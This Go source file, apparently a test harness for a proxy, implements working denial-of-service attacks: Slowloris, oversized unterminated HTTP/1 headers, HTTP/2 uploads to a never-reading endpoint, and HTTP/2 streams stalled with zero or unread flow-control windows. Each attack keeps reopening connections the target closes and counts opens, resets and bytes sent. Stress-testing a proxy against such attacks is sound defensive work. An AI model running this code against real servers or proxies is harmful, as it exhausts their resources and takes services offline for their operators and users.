package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Tally counts what becomes of an attack while it goes on. All of it may be read
// at any time.
type Tally struct {
	// Opened is how many connections were made, and Closed how many of those the
	// proxy ended.
	Opened, Closed atomic.Int64
	// Streams is how many streams of HTTP/2 were opened, and Refused how many of
	// those the proxy reset.
	Streams, Refused atomic.Int64
	// Sent is how many bytes of content went out.
	Sent atomic.Int64
}

// again is how long an attacker waits before it opens a connection anew that the
// proxy ended, or did not take.
const again = 100 * time.Millisecond

// HeavyUploads opens connections of HTTP/2 with so many streams each, and sends size
// bytes on every stream as far as the windows let it: to a path whose endpoint never
// reads, all of that stays in the proxy. It holds them, and opens what the proxy
// closes anew, until ctx ends.
func HeavyUploads(ctx context.Context, addr, path string, conns, streams, size int, t *Tally) error {
	return persist(ctx, conns, func(ctx context.Context) error {
		c, err := dial2(ctx, addr, 65535, t)
		if err != nil {
			return err
		}
		defer c.Close()
		for i := range streams {
			if err := c.head(uint32(2*i+1), "POST", path, false); err != nil {
				break
			}
		}
		go c.upload(streams, size)
		return c.read()
	})
}

// HeavyHeads opens connections of HTTP/1 that each send so many bytes of a head that
// does not end, and holds them likewise.
func HeavyHeads(ctx context.Context, addr string, conns, size int, t *Tally) error {
	first := "GET / HTTP/1.1\r\nHost: attack.test\r\n"
	for i := 0; len(first) < size; i++ {
		first += fmt.Sprintf("x-%d: %s\r\n", i, strings.Repeat("a", min(1000, size-len(first))))
	}
	return persist(ctx, conns, func(ctx context.Context) error {
		return holdHead(ctx, addr, first, t)
	})
}

// Slowloris opens connections of HTTP/1 that each send the beginning of a head, and
// holds them likewise.
func Slowloris(ctx context.Context, addr string, conns int, t *Tally) error {
	return persist(ctx, conns, func(ctx context.Context) error {
		return holdHead(ctx, addr, "GET / HTTP/1.1\r\nHost: attack.test\r\nx-", t)
	})
}

// StalledStreams opens connections of HTTP/2 with so many GETs of a path each, and
// takes none of the responses: their windows are 0, and where deaf is true, nothing
// is read from the sockets either and the windows are wide. It holds them likewise.
func StalledStreams(ctx context.Context, addr, path string, conns, streams int, deaf bool, t *Tally) error {
	window := uint32(0)
	if deaf {
		window = 1 << 30
	}
	return persist(ctx, conns, func(ctx context.Context) error {
		c, err := dial2(ctx, addr, window, t)
		if err != nil {
			return err
		}
		defer c.Close()
		for i := range streams {
			if err := c.head(uint32(2*i+1), "GET", path, true); err != nil {
				break
			}
		}
		if deaf {
			<-ctx.Done()
			return nil
		}
		return c.read()
	})
}

// persist keeps n attackers going until ctx ends: each begins anew when the proxy has
// ended it. It fails if not one connection could be made.
func persist(ctx context.Context, n int, one func(context.Context) error) error {
	var first atomic.Pointer[error]
	var good atomic.Bool
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := one(ctx); err == nil {
					good.Store(true)
				} else {
					first.CompareAndSwap(nil, &err)
				}
				select {
				case <-ctx.Done():
				case <-time.After(again):
				}
			}
		})
	}
	all.Wait()
	if err := first.Load(); err != nil && !good.Load() {
		return *err
	}
	return nil
}

// dial opens a connection that ends with ctx.
func dial(ctx context.Context, addr string, t *Tally) (net.Conn, error) {
	var d net.Dialer
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	t.Opened.Add(1)
	return &ending{nc, context.AfterFunc(ctx, func() { nc.Close() })}, nil
}

// ending is a connection that ends with a context.
type ending struct {
	net.Conn
	stop func() bool
}

// Close ends it sooner.
func (e *ending) Close() error {
	e.stop()
	return e.Conn.Close()
}

// holdHead sends the beginning of a head, and waits for the proxy to have enough.
func holdHead(ctx context.Context, addr, first string, t *Tally) error {
	nc, err := dial(ctx, addr, t)
	if err != nil {
		return err
	}
	defer nc.Close()
	n, _ := io.WriteString(nc, first)
	t.Sent.Add(int64(n))
	io.Copy(io.Discard, nc)
	if ctx.Err() == nil {
		t.Closed.Add(1)
	}
	return nil
}

// conn2 is a hostile connection of HTTP/2.
type conn2 struct {
	net.Conn
	ctx    context.Context
	framer *http2.Framer
	tally  *Tally

	mu     sync.Mutex // over writes, and what follows
	more   sync.Cond
	closed bool
	window int64           // what may be sent on the connection
	wide   int64           // and what on a new stream
	sent   map[uint32]bool // streams that have had their share
	widths map[uint32]int64
}

// dial2 opens a connection of HTTP/2, whose streams have such a window.
func dial2(ctx context.Context, addr string, window uint32, t *Tally) (*conn2, error) {
	nc, err := dial(ctx, addr, t)
	if err != nil {
		return nil, err
	}
	c := &conn2{Conn: nc, ctx: ctx, framer: http2.NewFramer(nc, nc), tally: t, window: 65535, wide: 65535, widths: map[uint32]int64{}, sent: map[uint32]bool{}}
	c.more.L = &c.mu
	io.WriteString(nc, http2.ClientPreface)
	if err := c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		nc.Close()
		return nil, err
	}
	return c, nil
}

// head opens a stream.
func (c *conn2) head(id uint32, method, path string, end bool) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "attack.test"}, {Name: ":path", Value: path}} {
		e.WriteField(f)
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.tally.Streams.Add(1)
	c.widths[id] = c.wide
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: end, EndHeaders: true})
}

// upload sends size bytes on each stream, as far as the windows let it.
func (c *conn2) upload(streams, size int) {
	piece := make([]byte, 16<<10)
	for i := range streams {
		id := uint32(2*i + 1)
		for left := int64(size); left > 0; {
			c.mu.Lock()
			for !c.closed && c.widths[id] > 0 && c.window <= 0 {
				c.more.Wait()
			}
			n := min(left, int64(len(piece)), c.window, c.widths[id])
			if c.closed {
				c.mu.Unlock()
				return
			}
			if n <= 0 { // the stream's window is used up, or it was reset
				c.mu.Unlock()
				break
			}
			c.window -= n
			c.widths[id] -= n
			err := c.framer.WriteData(id, false, piece[:n])
			c.mu.Unlock()
			if err != nil {
				return
			}
			c.tally.Sent.Add(n)
			left -= n
		}
	}
}

// read takes in what the proxy says until the connection ends.
func (c *conn2) read() error {
	defer func() {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.closed = true
		c.more.Broadcast()
	}()
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			if c.ctx.Err() == nil {
				c.tally.Closed.Add(1)
			}
			return nil
		}
		c.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok && !f.IsAck() {
				for id := range c.widths {
					c.widths[id] += int64(v) - c.wide
				}
				c.wide = int64(v)
			}
			if !f.IsAck() {
				c.framer.WriteSettingsAck()
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				c.window += int64(f.Increment)
			} else {
				c.widths[f.StreamID] += int64(f.Increment)
			}
		case *http2.RSTStreamFrame:
			c.tally.Refused.Add(1)
			c.widths[f.StreamID] = 0
		}
		c.more.Broadcast()
		c.mu.Unlock()
	}
}
